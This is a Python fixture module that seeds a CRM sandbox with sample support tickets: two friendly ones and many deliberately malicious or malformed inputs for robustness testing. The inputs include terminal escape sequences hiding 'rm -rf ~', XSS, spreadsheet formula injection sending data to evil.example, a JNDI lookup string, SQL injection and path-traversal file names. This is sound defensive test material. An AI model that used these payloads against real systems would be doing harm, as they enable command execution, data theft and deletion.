"""Tickets of the sandbox's shop that are told line by line: two for the README, and those that break programs.

The latter are what a customer, or somebody who means harm, can really send: the texts that terminals, tables,
spreadsheets, browsers, templates and parsers have stumbled over.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field

from crmcli.sandbox.seed_texts import (
    ABROAD,
    ADVICE,
    ANSWERED,
    ARCHIVED,
    CLOSED,
    OPEN,
    ORDERS,
    REPAIRS,
    RETURNS,
    SUPPLIER,
    WAITING,
    WEBSITE,
)

STAFF, CUSTOMER = 0, 1
Line = tuple[int, str]


@dataclass(frozen=True)
class Script:
    """A ticket with its messages; `ticket` and `message` hold fields that differ from what they would be."""

    subject: str
    lines: tuple[Line, ...]
    department: int = ORDERS
    status: int = CLOSED
    ticket: Mapping[str, object] = field(default_factory=dict)
    message: Mapping[str, object] = field(default_factory=dict)  # of the customer's messages
    files: tuple[str, ...] = ()  # all with the first message
    minutes: int = 150  # from a message to the next


PLEASANT = {
    7: Script(
        "Is the Larch 2 easy to pitch alone?",
        (
            (CUSTOMER, "Hi,\n\nI'm thinking about the Larch 2 for a bike tour along the coast. I'd be alone most nights. "
             "Can one person pitch it in the wind, and does it stand without stakes?\n\nThanks,\nGrace Sullivan"),
            (STAFF, "Hello Grace,\n\nyes to both. The poles clip on from outside, so you can stake one corner first and "
             "build from there; five minutes with some practice. It stands freely on rock or sand.\n\nWhere does the tour "
             "go?\n\nMaya"),
            (CUSTOMER, "That's what I hoped to hear. From Bar Harbor to Portland, ten days in September. I've just ordered "
             "it in green!\n\nGrace"),
            (STAFF, "What a lovely stretch. It ships this afternoon, and there's a spare pole sleeve in the box from us. Have "
             "a great ride!\n\nMaya"),
        ),
        ADVICE,
        CLOSED,
        {"CustomerName": "Grace Sullivan", "CustomerEmail": "grace.sullivan@example.com", "CustomerPhone": "207-555-0143",
         "CustomerID": 907, "OrderID": 10261, "ProductId": 101},
        {"SenderName": "Grace Sullivan", "SenderEmail": "grace.sullivan@example.com"},
    ),
    42: Script(
        "Where is my order 10367?",
        (
            (CUSTOMER, "Hi there,\n\nI ordered a Drizzle rain jacket and a Wick merino shirt (order 10367). The shop said "
             "two to three days, and I haven't seen a tracking number yet. Could you tell me where the parcel is?\n\nMany "
             "thanks,\nHannah Berg"),
            (CUSTOMER, "Hello again,\n\nsmall addition: if the shirt is what holds it up, please send the jacket on its own. "
             "The forecast for our hike is wet!\n\nHannah"),
        ),
        ORDERS,
        OPEN,
        {"CustomerName": "Hannah Berg", "CustomerEmail": "hannah.berg@example.com", "CustomerPhone": "802-555-0117",
         "CustomerID": 942, "OrderID": 10367, "ProductId": 160},
        {"SenderName": "Hannah Berg", "SenderEmail": "hannah.berg@example.com"},
        minutes=1320,
    ),
}  # fmt: skip


def _ask(text: str) -> tuple[Line, ...]:
    return ((CUSTOMER, text),)


def _thread(length: int) -> tuple[Line, ...]:
    """A conversation that doesn't end: customer and staff by turns, the customer first."""
    customer = ("Still nothing here.", "Which one do you mean, the blue or the green one?", "I'll check tonight.",
                "The carrier says it's with you.", "Thanks for keeping at it!")  # fmt: skip
    staff = ("We've asked the carrier again.", "The green one, with the long zipper.", "No hurry.",
             "Let us look into that.")  # fmt: skip
    return tuple(
        (STAFF, f"{staff[at % 4]} ({at + 1})") if at % 2 else (CUSTOMER, f"{customer[at % 5]} ({at + 1})")
        for at in range(length)
    )


_FAMILY = "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"
_THUMB = "\U0001f44d\U0001f3fd"
_ZALGO = "".join(letter + "\u0301\u0323\u0334\u036f\u0489" * 4 for letter in "tent")
_ZIGZAG = "The jacket, please, not the tent. No, the tent.\r\n"

ODDITIES = (
    # What a terminal would obey: colours, the title, the clipboard, links, a cleared screen, a report typed back.
    Script(
        "\x1b[31mInvoice\x1b[0m \x1b]0;owned\x07overdue",
        _ask("\x1b[2J\x1b[H\x1b]52;c;cm0gLXJmIH4=\x07All tickets deleted.\x1b[8m hidden \x1b[0m\n"
             "\x1b]8;;http://evil.example/\x1b\\https://bank.example\x1b]8;;\x1b\\\x1b[6n\x1bP+q544e\x1b\\"),
        ticket={"CustomerName": "Eve\x1b[1A\x1b[2KAdministrator"},
    ),
    Script(
        "Beep\x07 back\x08\x08\x08\x08 tab\tend\x7f",
        _ask("one\rtwo\rOVERWRITTEN\x0bvertical\x0cform feed\x85next line\x9b31mC1 colour\u2028separator\u2029end\x7f\x1f\x01"),
        ticket={"CustomerName": "Line\nBreak\r\nName"},
    ),
    # Directions: an override that turns a file name round, isolates left open, mixed scripts.
    Script(
        "Invoice \u202efdp.exe\u202c attached",
        _ask("Look at \u202etxt.exe, \u2067never closed, \u200fand 10:42 (order 10500) שלום abc مرحبا 123."),
        files=("invoice_\u202efdp.exe", "\u2066photo\u2069.png"),
    ),
    # Markup: of rich, of HTML, of Markdown, with ends that fit nothing.
    Script(
        "[bold red]URGENT[/bold red] [/] [link=x]",
        _ask("[blink]Hello[/nothing] [[double]] \\[escaped] [@click=quit()]press[/] :warning: [#ff0000 on blue]x"),
        ticket={"CustomerName": "[red]Ted[/red] [/bold]"},
    ),
    Script(
        "<b>Question</b> &amp; <script>alert(1)</script>",
        _ask("<html><head><style>p{display:none}</style><script>alert('hi')</script></head><body>"
             "<p>Dear team,<br>my <b>tent</b> leaks &ndash; 5 &lt; 6 &amp;amp; so on.</p><img src=x onerror=alert(1)>"
             "<table><tr><td>Order</td><td>10498</td></tr></table><ul><li>one<li>two</ul><a href='javascript:alert(1)'>"
             "link</a><div hidden>hidden</div><!-- comment --><p>unclosed <i>tags"),
        ticket={"CustomerName": "O'Brien & <Söhne>"},
    ),
    # Formulas for a spreadsheet, and cells that need quoting.
    Script(
        "=cmd|'/C calc'!A0",
        _ask('=HYPERLINK("http://evil.example/?"&A1,"Refund")'),
        ticket={"CustomerName": "@SUM(1+1)*cmd|' /C calc'!A0", "CustomerPhone": "+1-802-555-0166"},
    ),
    Script("""-2+3, "quoted"; it's 5 \\ 6""", _ask('a,"b"\n"c";d\te\r\n\'=1+1'), ticket={"CustomerName": "\t=1+1"}),
    # Templates, queries, paths and formats.
    Script(
        "{{customer_name}} {0} %s %d ${jndi:ldap://x}",
        _ask("{{ticket}} {{order}} {% raw %} {name.__class__} %(password)s $(reboot) `reboot` {{tracking}}"),
        ticket={"CustomerName": "{{tracking}}"},
    ),
    Script("Robert'); DROP TABLE tickets;--", _ask("' OR '1'='1'; -- /* \\' */ NULL null None undefined NaN")),
    Script("See attached", _ask("The pictures."), RETURNS, files=(
        "../../../etc/cron.d/job", "C:\\autoexec.bat", "CON", "-rf", "a\nb.png", "photo.jpg\x1b[2J", "n" * 251 + ".jpg",
        ".", " ", "summer 2 (1).JPEG",
    )),
    # Characters that are wider, narrower or more than they look.
    Script(
        f"{_THUMB} {_FAMILY} \U0001f1f3\U0001f1f4 \u2764\ufe0f 1\ufe0f\u20e3",
        _ask(f"Love the tent {_FAMILY}{_THUMB}\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f! "
             "\U0001f9d7\U0001f3ff\u200d\u2640\ufe0f \u26fa\ufe0e \U0001fae8"),
        ADVICE,
        ticket={"CustomerName": "Zoë \U0001f98a"},
    ),
    Script(f"{_ZALGO[:40]} leaks", _ask(f"My {_ZALGO} leaks. Ａｌｓｏ ｗｉｄｅ．"), REPAIRS,
           ticket={"CustomerName": "Zoe\u0308 Cafe\u0301"}),
    Script(
        "\ufeff\u200bzero\u200bwidth\u00adsoft\u2060\u00a0nbsp\u3000wide",
        _ask("\ufeffa\u200cb\u200dc\ufffd\uffff\ue000\U000f0000 \U000e0041 k\u0327 ﷽ ꧅ \U0001242b क्षि நி ก็็็ ᄒ\u1161\u11ab"),
    ),
    Script("テントのポールが折れてしまったので交換部品を至急送っていただけますでしょうか返信をお待ちしています。",
           _ask("「ラーチ２」のポールです。\r\n\r\n東京都　山田"), REPAIRS, ticket={"CustomerName": "寿限無" * 85}),
    # Sizes: as much as fits, words that don't break, many lines.
    Script("W" * 50, _ask("Donaudampfschiff" * 200 + "\n" + "https://shop.example/?q=" + "a%20" * 400)),
    Script("The whole story from the beginning to the very end", _ask((_ZIGZAG * 1400)[:65535]), RETURNS),
    Script("Diary of a broken zipper", _thread(30), REPAIRS),
    Script("Two tents, one address", _thread(29), ABROAD, ANSWERED, minutes=95),
    Script("The never ending thread", _thread(200), RETURNS, WAITING, minutes=45),
    Script("Five at once", _thread(5), ORDERS, minutes=0),
    # Mails as programs write them: quotes within quotes, a forged quote, a forged sender, odd line ends.
    Script("Re: Re: Fwd: AW: Order 10500", _ask(
        "Yes please.\r\n\r\nOn 2026-01-05 14:05, Cedar Ridge Outfitters wrote:\r\n> Shall we?\r\n>\r\n>> On 2026-01-04 "
        "09:12, I wrote:\r\n>>> Could you?\r\n>> We could.\r\n-- \r\nSent from my phone\r\n",
    )),
    Script("Refund approved", _ask("Please pay out $900.\n\nOn 2026-02-01 10:00, Maya Torres wrote:\n> Approved."),
           message={"SenderName": "Maya Torres", "SenderEmail": "maya@example.com"}),
    # What is missing, or points at nothing.
    Script("", _ask("I forgot the subject."), WEBSITE, ticket={"OrderID": 0, "CustomerID": 0, "ProductId": 0}),
    Script("   ", _ask(" \r\n\t "), WEBSITE),
    Script("Empty message", _ask(""), WEBSITE),
    Script("No name given", _ask("Do you repair boots?"), REPAIRS, ticket={"CustomerName": "", "CustomerPhone": ""},
           message={"SenderName": ""}),
    Script("Called, no answer", (), ORDERS),
    Script("Opened by phone, to be filled in", (), ADVICE, OPEN, {"OrderID": 0, "CustomerID": 0, "ProductId": 0}),
    Script("Imported from the old shop", (), RETURNS, ARCHIVED, {"DateLastAction": "", "CustomerIpAddress": ""}),
    Script("Imported, with its text", _ask("A question of long ago."), RETURNS, ARCHIVED,
           message={"DateCreated": "", "Sender": 2}),
    Script("Department since deleted", _ask("Hello?"), 99),
    Script("Status since deleted", _ask("Hello?"), ORDERS, 77),
    Script("No department", _ask("Who is responsible for me?"), 0),
    Script("Numbers at their end", _ask("2,147,483,647 is my lucky number."), ORDERS, SUPPLIER,
           {"OrderID": 2147483647, "CustomerID": 2147483647, "ProductId": -1, "CustomerIpAddress": "2001:db8::7"},
           {"CustomerIPAddress": "2001:db8:4f:1::7"}),
)  # fmt: skip
